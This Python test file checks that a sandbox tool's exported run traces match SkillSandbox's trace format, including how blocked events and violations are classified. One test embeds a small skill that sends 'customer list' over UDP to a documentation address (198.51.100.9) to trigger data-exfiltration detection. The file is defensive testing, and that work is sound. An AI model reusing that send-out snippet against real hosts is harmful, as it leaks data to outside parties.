#!/usr/bin/env python3
"""SkillSandbox compatibility of the trace (issue 41): `skillgate traces
export` writes a run in SkillSandbox's own trace format, and a reader that
follows SkillSandbox's trace structure field by field (its ExecutionTrace,
TraceEvent, ViolationSummary and ClassifiedViolation, with serde's rules:
required fields present and typed, every enum value one of its variants,
unknown fields ignored) loads it; our own trace carries its fields beside
ours (each class's description and prevented_by, classes, each event's
skillsandbox_kind).

The attack skills reach only decoys, *.test names and documentation
addresses (198.51.100.0/24), which nothing here routes.

Usage: skillsandbox_test.py PATH/TO/skillgate SOURCE_ROOT
"""
import datetime
import functools
import json
import os
import re
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import sandbox_test as h  # noqa: E402

TESTS = []
test = functools.partial(h.test, tests=TESTS)
EXAMPLES = os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))),
                        "examples", "skills")

# SkillSandbox's enums as serde writes them (src/tracer/trace.rs, classify.rs)
SS_KINDS = {"network_egress_allowed", "network_egress_blocked", "network_policy_applied",
            "network_policy_removed", "env_var_access", "file_read", "file_write",
            "file_blocked", "syscall_filtered", "syscall_blocked", "stdout", "stderr",
            "skill_started", "skill_completed", "skill_failed", "dns_resolution",
            "process_spawned", "exit_code", "policy_violation", "resource_limit_hit"}
SS_CLASSES = {"credential_harvesting", "credential_exfiltration", "data_exfiltration",
              "unauthorized_file_access", "privilege_escalation", "resource_abuse",
              "supply_chain_attack"}
RFC3339 = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d{1,9})?(Z|[+-]\d\d:\d\d)$")


def need(obj, key, kind, where):
    assert key in obj, f"{where}: no {key} (a required field)"
    v = obj[key]
    assert isinstance(v, kind) and not (kind is int and isinstance(v, bool)), \
        f"{where}.{key}: {type(v).__name__}, not {kind}"
    return v


def timestamp(v, where):
    assert isinstance(v, str) and RFC3339.match(v), f"{where}: not RFC 3339: {v!r}"
    datetime.datetime.fromisoformat(v)  # chrono's RFC 3339: Z, 0 to 9 fraction digits


def trace_event(e, where):
    assert isinstance(e, dict), where
    timestamp(need(e, "timestamp", str, where), where + ".timestamp")
    kind = need(e, "kind", str, where)
    assert kind in SS_KINDS, f"{where}.kind: {kind!r} is no TraceEventKind variant"
    need(e, "message", str, where)
    # data: Option<serde_json::Value>: any JSON, or absent


def violation_summary(vs, where):
    total = need(vs, "total_enforcements", int, where)
    cls = need(vs, "classifications", list, where)
    need(vs, "all_prevented", bool, where)
    classes = need(vs, "classes", list, where)
    need(vs, "max_severity", str, where)
    for i, c in enumerate(cls):
        w = f"{where}.classifications[{i}]"
        assert need(c, "class", str, w) in SS_CLASSES, f"{w}.class: {c['class']!r}"
        for k in ("severity", "description", "prevented_by", "mitre_tactic"):
            assert need(c, k, str, w), f"{w}.{k} is empty"
        assert need(c, "count", int, w) >= 1, w
        assert all(isinstance(x, str) for x in need(c, "evidence", list, w)), w
    # its meaning: the sum of the counts, its class names without underscores
    assert total == sum(c["count"] for c in cls), (total, [c["count"] for c in cls])
    assert classes == [c["class"].replace("_", "") for c in cls], classes


def load_skillsandbox_trace(text):
    """SkillSandbox's ExecutionTrace, field by field."""
    t = json.loads(text)
    for k in ("trace_id", "skill_name", "skill_version"):
        need(t, k, str, "trace")
    timestamp(need(t, "started_at", str, "trace"), "trace.started_at")
    if "completed_at" in t:
        timestamp(t["completed_at"], "trace.completed_at")
    if "exit_code" in t:
        assert isinstance(t["exit_code"], int) and -2**31 <= t["exit_code"] < 2**31
    for name in ("events", "policy_violations"):
        for i, e in enumerate(need(t, name, list, "trace")):
            trace_event(e, f"trace.{name}[{i}]")
    if "violation_summary" in t:
        violation_summary(t["violation_summary"], "trace.violation_summary")
    return t


def exported(m, d, *run_args):
    m.run("run", "--prompt", "deny", *run_args, d)
    ours = m.last_trace()
    name = os.path.basename(m.traces()[-1])
    p = m.run("traces", "export", name, check=0)
    return ours, load_skillsandbox_trace(p.out)


@test(modes=("root",))
def a_malicious_run_reads_as_skillsandbox_reads_its_traces(m, base):
    ours, ss = exported(m, os.path.join(EXAMPLES, "malicious-weather"))
    assert ss["trace_id"] == ours["trace_id"] and ss["skill_name"] == "malicious-weather"
    assert ss["exit_code"] == ours["exit_code"], (ss["exit_code"], ours["exit_code"])
    kinds = {e["skillgate_kind"]: e["kind"] for e in ss["events"]}
    assert kinds["fs_blocked"] == "file_blocked" and kinds["env_filtered"] == "env_var_access"
    assert kinds["dns_blocked"] == "network_egress_blocked", kinds
    assert len(ss["events"]) == len(ours["events"]), (len(ss["events"]), len(ours["events"]))
    vs = ss["violation_summary"]
    got = {c["class"]: c for c in vs["classifications"]}
    assert {"credential_harvesting", "credential_exfiltration", "supply_chain_attack",
            "data_exfiltration"} <= set(got), sorted(got)
    # our dns_exfiltration is its data_exfiltration, said beside it
    assert got["data_exfiltration"]["skillgate_classes"] == ["dns_exfiltration"], got
    assert vs["max_severity"] == "critical" and vs["all_prevented"] is True, vs
    assert ss["skillgate_classifications"] == ours["violation_summary"]["classifications"]
    # and our own trace carries SkillSandbox's fields beside ours
    ovs = ours["violation_summary"]
    assert ovs["classes"] == [c["class"].replace("_", "") for c in ovs["classifications"]]
    for c in ovs["classifications"]:
        assert c["description"] and c["prevented_by"], c
    fs = [e for e in ours["events"] if e["kind"] == "fs_blocked"]
    assert fs and all(e["skillsandbox_kind"] == "file_blocked" for e in fs), fs[:1]
    assert all("skillsandbox_kind" not in e for e in ours["events"] if e["kind"] == "stdout")


@test(modes=("root",))
def a_benign_run_has_no_summary_as_in_skillsandbox(m, base):
    d = h.make_skill(base, "benign", "print('fine')\n")
    ours, ss = exported(m, d)
    assert "violation_summary" not in ss and ours["violation_summary"]["classifications"] == []
    assert [e["kind"] for e in ss["events"]].count("skill_completed") == 1, ss["events"]
    assert ss["exit_code"] == 0


@test(modes=("root",))
def a_failed_run_is_skill_failed_there(m, base):
    d = h.make_skill(base, "fails", "import sys\nsys.exit(3)\n")
    ours, ss = exported(m, d)
    assert ss["exit_code"] == 3
    ends = [e for e in ss["events"] if e["skillgate_kind"] == "skill_completed"]
    assert ends and ends[0]["kind"] == "skill_failed", ends


@test(modes=("root",))
def data_sent_in_a_datagram_is_data_exfiltration(m, base):
    """No credential touched; a UDP datagram with data to an outside
    address: refused in the kernel, classified data_exfiltration (medium),
    as SkillSandbox names it; a refused TCP connect alone stays
    unclassified."""
    d = h.make_skill(base, "udp-out", (
        "import socket\n"
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "try:\n    s.sendto(b'customer list', ('198.51.100.9', 9999))\n"
        "except OSError:\n    pass\n"
        "t = socket.socket()\nt.settimeout(2)\n"
        "try:\n    t.connect(('198.51.100.10', 443))\n"
        "except OSError:\n    pass\n"))
    ours, ss = exported(m, d)
    cls = {c["class"]: c for c in ours["violation_summary"]["classifications"]}
    assert set(cls) == {"data_exfiltration"}, sorted(cls)
    c = cls["data_exfiltration"]
    assert c["severity"] == "medium" and c["mitre_tactic"] == "exfiltration", c
    assert "198.51.100.9" in " ".join(c["evidence"]), c["evidence"]
    assert ss["violation_summary"]["classes"] == ["dataexfiltration"], ss["violation_summary"]


if __name__ == "__main__":
    sys.exit(h.main(TESTS))
